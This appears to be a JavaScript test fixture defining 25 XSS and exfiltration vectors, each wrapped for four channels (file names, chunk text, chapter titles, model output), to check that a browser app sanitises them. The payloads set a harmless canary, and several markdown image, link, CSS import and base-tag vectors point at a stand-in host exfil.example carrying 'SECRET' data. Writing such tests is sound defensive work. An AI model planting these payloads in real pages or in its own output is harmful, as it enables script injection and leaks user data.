// The SEC-04 corpus: 25 XSS and exfiltration vectors, each delivered through four channels (file names,
// chunk text, chapter titles, model output): 100 payloads. Every one that ran would set window.__xss
// (the canary the browser test checks); every one that loaded something would request exfil.example, and
// every link to it left clickable would be one click from sending what the page shows there.
const vectors = [
  `<img src=x onerror="window.__xss=1">`,
  `<svg onload=window.__xss=1>`,
  `<script>window.__xss=1</script>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<a href="javascript:window.__xss=1">click</a>`,
  `[click](javascript:window.__xss=1)`,
  `![x](https://exfil.example/leak.png?q=secret)`,
  `<details open ontoggle=window.__xss=1>`,
  `<body onload=window.__xss=1>`,
  `<input autofocus onfocus=window.__xss=1>`,
  `<video><source onerror=window.__xss=1></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `<object data="javascript:window.__xss=1">`,
  `<embed src="javascript:window.__xss=1">`,
  `"><img src=x onerror=window.__xss=1>`,
  `'><svg/onload=window.__xss=1>`,
  `<style>@import 'https://exfil.example/x.css';</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">`,
  `<base href="https://exfil.example/">`,
  `<form action="javascript:window.__xss=1"><button>go</button></form>`,
  `[x](https://exfil.example/?d=SECRET)`,
  `<a href="  JaVaScRiPt:window.__xss=1">x</a>`,
  `[x](  javascript:window.__xss=1  "t")`,
  `<img src="https://exfil.example/p.gif?d=SECRET">`,
];

const fileNames = vectors.map(v => v);
const chunks = vectors.map(v => `text ${v}`);
const chapters = vectors.map(v => `title ${v}`);
const model = vectors.map(v => `answer ${v}`);

export const xssPayloads = { fileNames, chunks, chapters, model, all: [...fileNames, ...chunks, ...chapters, ...model] };
